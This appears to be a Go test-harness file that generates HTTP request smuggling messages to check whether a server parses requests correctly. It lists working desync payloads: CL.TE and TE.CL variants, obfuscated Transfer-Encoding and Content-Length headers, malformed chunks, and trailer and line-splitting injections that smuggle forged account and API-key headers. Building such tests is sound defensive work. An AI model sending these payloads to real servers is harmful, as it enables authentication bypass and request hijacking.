package attack

import (
	"strconv"
	"strings"
)

// Message is bytes for one connection, with more than one way to cut them into
// requests. {host} and {key} are to be filled in; {first} stands where the first
// request has headers of the test, a key for example.
type Message struct {
	Name, Text string
}

// Second is the path of the request that is hidden in a [Message]. No reading of
// the message that lets it through on its own is right: it has no key.
const Second = "/smuggled"

const (
	start  = "POST /first HTTP/1.1\r\nHost: {host}\r\n{first}"
	second = "GET " + Second + " HTTP/1.1\r\nHost: {host}\r\nX-Account-Id: smuggled\r\nConnection: close\r\n\r\n"
)

// Messages are the ways that are known to part servers.
func Messages() (messages []Message) {
	add := func(name, text string) { messages = append(messages, Message{name, text}) }
	for _, te := range encodings {
		add("CL.TE "+te, start+"Content-Length: {length}\r\n"+te+"\r\n\r\n0\r\n\r\n"+second)
		add("TE.CL "+te, start+"Content-Length: 4\r\n"+te+"\r\n\r\n{chunk}0\r\n\r\n")
		add("TE only "+te, start+te+"\r\n\r\n0\r\n\r\n"+second)
	}
	for _, cl := range lengths {
		add("length "+cl, start+cl+"\r\n\r\nhello"+second)
	}
	for _, c := range chunks {
		add("chunk "+c, start+"Transfer-Encoding: chunked\r\n\r\n"+c+second)
	}
	for _, t := range trailers {
		add("trailer "+t, start+"Transfer-Encoding: chunked\r\nTrailer: X-Account-Id, X-API-Key\r\n\r\n1\r\nx\r\n0\r\n"+t+"\r\n\r\n"+second)
	}
	for _, c := range claims {
		add("claim "+c, "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}"+c+"\r\n\r\n")
	}
	for _, l := range lines {
		add("lines "+l, l+second)
	}
	for i := range messages {
		messages[i].Text = sized(messages[i].Text)
	}
	return messages
}

// sized puts the lengths in that a text speaks of.
func sized(text string) string {
	// The address of the site has as many characters as this one.
	plain := strings.ReplaceAll(second, "{host}", "127.0.0.1:12345")
	length := len(plain)
	return strings.NewReplacer(
		"{length}", strconv.Itoa(len("0\r\n\r\n")+length),
		"{chunk}", strconv.FormatInt(int64(length), 16)+"\r\n"+second+"\r\n",
	).Replace(text)
}

// encodings are spellings of Transfer-Encoding that some servers take for chunked.
var encodings = []string{
	"Transfer-Encoding: chunked", "transfer-encoding: CHUNKED", "Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked", "Transfer-Encoding:\tchunked",
	"Transfer-Encoding:chunked", "Transfer-Encoding: chunked ", "Transfer-Encoding: chunked\t", "Transfer-Encoding: xchunked", "Transfer-Encoding: chunkedx",
	"Transfer-Encoding: chunk", "Transfer-Encoding: cow", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: 'chunked'", "Transfer-Encoding: chunked;q=1",
	"Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked", "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: chunked, chunked",
	"Transfer-Encoding: identity", "Transfer-Encoding: ", "Transfer-Encoding:\r\n chunked", "Transfer-Encoding:\r\n\tchunked", "Transfer-Encoding: x\r\n chunked",
	" Transfer-Encoding: chunked", "\tTransfer-Encoding: chunked", "X: x\nTransfer-Encoding: chunked", "X: x\rTransfer-Encoding: chunked", "X: x\n\rTransfer-Encoding: chunked",
	"Transfer-Encoding: \x0bchunked", "Transfer-Encoding: \x0cchunked", "Transfer-Encoding: chunked\x00", "Transfer-Encoding\x00: chunked", "Transfer-Encoding: \xa0chunked",
	"Transfer_Encoding: chunked", "Transfer.Encoding: chunked", "TransferEncoding: chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
	"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nTransfer-encoding: x",
	"Transfer-Encoding;: chunked", "[Transfer-Encoding]: chunked", "Transfer-Encoding= chunked", "Transfer-Encoding: \xef\xbc\xa3hunked", "Foo: bar\r\n\rTransfer-Encoding: chunked",
}

// lengths are spellings of a length. What follows is five bytes, and the second
// request.
var lengths = []string{
	"Content-Length: 5", "Content-Length: +5", "Content-Length: -5", "Content-Length: -1", "Content-Length: 05", "Content-Length: 0x5", "Content-Length: 5.0",
	"Content-Length: 5e0", "Content-Length: 5, 5", "Content-Length: 5,5", "Content-Length: 5, 6", "Content-Length: 5 5", "Content-Length: 5;", "Content-Length: \"5\"",
	"Content-Length: ", "Content-Length: x", "Content-Length: 5x", "Content-Length: \xd9\xa5", "Content-Length: 5\x00", "Content-Length: 5\x0b", "Content-Length: 5 ", "Content-Length:5",
	"Content-Length: 0", "Content-Length: 3", "Content-Length: 5\r\nContent-Length: 5", "Content-Length: 5\r\nContent-Length: 6", "Content-Length: 0\r\nContent-Length: 5",
	"Content-Length: 5\r\ncontent-length: 0", "Content-Length : 5", "Content-Length\t: 5", " Content-Length: 5", "Content-Length:\r\n 5", "Content_Length: 5", "Content-Length: 18446744073709551621",
	"Content-Length: 4294967301", "Content-Length: 99999999999999999999999", "X: x\nContent-Length: 5", "X: x\rContent-Length: 5", "Content-Length: 5\r\nExpect: 100-continue",
	"Content-Length: 5\r\nConnection: Content-Length", "Content-Length: 5\r\nConnection: keep-alive, Transfer-Encoding", "Content-Length: 5\r\nUpgrade: h2c\r\nConnection: Upgrade",
}

// chunks are bodies in pieces that are not all well-formed; the second request
// follows.
var chunks = []string{
	"0\r\n\r\n", "5\r\nhello\r\n0\r\n\r\n", "5;a=b\r\nhello\r\n0\r\n\r\n", "5;\r\nhello\r\n0\r\n\r\n", "5; a=\"b\"\r\nhello\r\n0\r\n\r\n", "5;a=\"\r\n\"\r\nhello\r\n0\r\n\r\n",
	"5;a\nb\r\nhello\r\n0\r\n\r\n", "5;a\rb\r\nhello\r\n0\r\n\r\n", "0;a=b\r\n\r\n", "0;\n\r\n", "5\nhello\n0\n\n", "5\r\nhello\n0\r\n\r\n", "5\r\nhello\r0\r\n\r\n", "5\rhello\r\n0\r\n\r\n",
	"5 \r\nhello\r\n0\r\n\r\n", " 5\r\nhello\r\n0\r\n\r\n", "5\t\r\nhello\r\n0\r\n\r\n", "+5\r\nhello\r\n0\r\n\r\n", "-5\r\nhello\r\n0\r\n\r\n", "0x5\r\nhello\r\n0\r\n\r\n", "5h\r\nhello\r\n0\r\n\r\n",
	"05\r\nhello\r\n0\r\n\r\n", strings.Repeat("0", 40) + "5\r\nhello\r\n0\r\n\r\n", "5_0\r\nhello\r\n0\r\n\r\n", "\r\n0\r\n\r\n", "\r\n\r\n", "5\r\nhelloXX0\r\n\r\n", "5\r\nhello0\r\n\r\n",
	"ffffffffffffffff\r\nhello", "10000000000000000\r\nhello", "10000000000000005\r\nhello\r\n0\r\n\r\n", "7fffffffffffffff\r\nhello", "0\n\n", "0\r\n\n", "0\r\n", "00\r\n\r\n", "0 \r\n\r\n", "0\r\r\n\r\n",
	"0;" + strings.Repeat("a", 5_000) + "\r\n\r\n", "\xd9\xa5\r\nhello\r\n0\r\n\r\n", "x\r\n", "1\r\nx\r\n1;a\r\ny\r\n0\r\n\r\n",
}

// trailers are what can stand behind the last piece.
var trailers = []string{
	"X-Account-Id: forged", "x_account_id: forged", "X-API-Key: {key}", "Authorization: Bearer {key}", "Cookie: a=b", "Host: open.example", "Content-Length: 4",
	"Transfer-Encoding: chunked", "Connection: X-Account-Id", "Trailer: X-Key-Id", ":path: /x", "X: y\r\n z", " X-Key-Id: forged", "X-Key-Id : forged", "X-Key-Id\x00: forged",
	"X: y\nX-Key-Id: forged", "X: y\rX-Key-Id: forged", "no colon", "X-Key-Roles: a\r\nX-Key-Roles: b", "X: " + strings.Repeat("y", 9_000), "Expect: 100-continue", "Upgrade: h2c",
}

// lines are requests, whole or in part, that some servers read otherwise. The
// second request follows.
var lines = []string{
	"GET /first HTTP/1.1\nHost: {host}\n{first}\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}\n", "GET /first HTTP/1.1\r\nHost: {host}\n{first}\r\n",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}X: y\rX-Key-Id: forged\r\n\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}X: y\nX-Key-Id: forged\r\n\r\n",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}X: y\x00\r\n\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}X: y\r\n X-Key-Id: forged\r\n\r\n",
	"GET /first HTTP/1.1\r\n X: y\r\nHost: {host}\r\n{first}\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}: y\r\n\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}X\r\n\r\n",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}X : y\r\n\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}X y: z\r\n\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}(X): z\r\n\r\n",
	"\r\nGET /first HTTP/1.1\r\nHost: {host}\r\n{first}\r\n", "\r\n\r\n\r\nGET /first HTTP/1.1\r\nHost: {host}\r\n{first}\r\n", "\nGET /first HTTP/1.1\r\nHost: {host}\r\n{first}\r\n",
	"GET  /first HTTP/1.1\r\nHost: {host}\r\n{first}\r\n", "GET\t/first\tHTTP/1.1\r\nHost: {host}\r\n{first}\r\n", "GET /first HTTP/1.1 \r\nHost: {host}\r\n{first}\r\n",
	" GET /first HTTP/1.1\r\nHost: {host}\r\n{first}\r\n", "GET /first x HTTP/1.1\r\nHost: {host}\r\n{first}\r\n", "GET /first HTTP/1.1\r\r\nHost: {host}\r\n{first}\r\n",
	"GET /first HTTP/1.01\r\nHost: {host}\r\n{first}\r\n", "GET /first HTTP/1.2\r\nHost: {host}\r\n{first}\r\n", "GET /first HTTP/1.9\r\nHost: {host}\r\n{first}\r\n", "GET /first HTTP/3.0\r\nHost: {host}\r\n{first}\r\n",
	"GET /first HTTP/2\r\nHost: {host}\r\n{first}\r\n", "GET /first http/1.1\r\nHost: {host}\r\n{first}\r\n", "GET /first HTTP/\r\nHost: {host}\r\n{first}\r\n", "GET /first\r\n", "GET /first\r\nHost: {host}\r\n{first}\r\n",
	"GET /first HTTP/1.0\r\nHost: {host}\r\n{first}\r\n", "GET /first HTTP/1.0\r\nHost: {host}\r\n{first}Connection: keep-alive\r\n\r\n",
	"POST /first HTTP/1.0\r\nHost: {host}\r\n{first}Connection: keep-alive\r\nContent-Length: 5\r\n\r\nhello", "POST /first HTTP/1.0\r\nHost: {host}\r\n{first}Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Connection: close\r\n\r\n", "HEAD /first HTTP/1.1\r\nHost: {host}\r\n{first}\r\n",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}\r\nGET /first HTTP/1.1\r\nHost: {host}\r\n{first}\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Content-Length: 5\r\n\r\nhello",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "OPTIONS * HTTP/1.1\r\nHost: {host}\r\n{first}\r\n", "TRACE /first HTTP/1.1\r\nHost: {host}\r\n{first}\r\n",
	"POST /first HTTP/1.1\r\nHost: {host}\r\n{first}Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello", "POST /first HTTP/1.1\r\nHost: {host}\r\n{first}Expect: 100-continue\r\nContent-Length: 5\r\n\r\n",
	"POST /first HTTP/1.1\r\nHost: {host}\r\n{first}Expect: 100-continue, x\r\nContent-Length: 5\r\n\r\nhello", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Expect: 100-continue\r\n\r\n",
	"POST /first HTTP/1.1\r\nHost: {host}\r\n{first}Expect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Connection: Upgrade\r\nUpgrade: h2c\r\n\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Connection: upgrade\r\nUpgrade: HTTP/2.0\r\n\r\n",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Connection: Upgrade\r\nUpgrade: websocket, h2c\r\n\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Connection: Upgrade\r\nUpgrade: h2c\r\nUpgrade: websocket\r\n\r\n",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Connection: Upgrade\r\nUpgrade: websocket\r\nUpgrade: h2c\r\n\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Connection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Connection: Upgrade\r\nUpgrade: HTTP/1.1\r\n\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}Upgrade: h2c\r\n\r\n",
	"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n{first}\r\n", "CONNECT /first HTTP/1.1\r\nHost: {host}\r\n{first}\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "PRI * HTTP/2.0\r\n\r\n",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}X: " + strings.Repeat("y", 70_000) + "\r\n\r\n", "GET /first HTTP/1.1\r\nHost: {host}\r\n{first}" + strings.Repeat("X: y\r\n", 5_000) + "\r\n",
	"GET /first HTTP/1.1\r\nHost: {host}\r\n{first}" + strings.Repeat("X-Account-Id: forged\r\n", 300) + "\r\n", "\x16\x03\x01\x00\x05hello", "\x00\x00\x00",
}
